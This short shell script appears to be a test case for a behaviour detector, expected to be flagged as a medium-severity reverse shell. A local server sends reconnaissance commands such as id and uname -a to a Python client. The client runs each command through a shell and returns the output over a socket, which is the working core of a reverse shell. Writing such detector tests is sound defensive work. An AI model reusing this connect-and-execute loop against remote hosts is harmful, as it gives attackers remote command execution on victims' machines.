# about: a program asks for a command on a new connection each time, and runs it
# expect: reverse_shell medium
# needs: python3
cat >server.py <<'END'
import socket
server = socket.create_server(("127.0.0.1", 5302))
for job in b"id", b"uname -a", b"ls /", b"df", b"exit":
    peer, _ = server.accept()
    peer.sendall(job)
    peer.recv(65536)
    peer.close()
END
python3 server.py &
SERVER=$!
python3 "$LIB/peer.py" wait 5302 tcp
python3 - <<'END'
import socket, subprocess, time
while True:
    peer = socket.create_connection(("127.0.0.1", 5302))
    job = peer.recv(1024)
    if job == b"exit":
        break
    peer.sendall(subprocess.run(job, shell=True, capture_output=True).stdout)
    peer.close()
    time.sleep(0.1)
END
wait $SERVER || true
